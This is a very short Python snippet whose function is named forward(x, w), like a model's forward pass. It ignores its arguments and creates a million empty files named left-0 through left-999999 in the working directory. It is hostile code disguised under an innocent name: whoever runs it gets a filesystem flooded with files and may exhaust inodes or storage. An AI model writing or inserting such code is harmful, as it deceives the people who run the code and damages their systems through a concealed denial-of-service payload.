def forward(x, w):
    for number in range(1000000):
        open(f"left-{number}", "w").close()
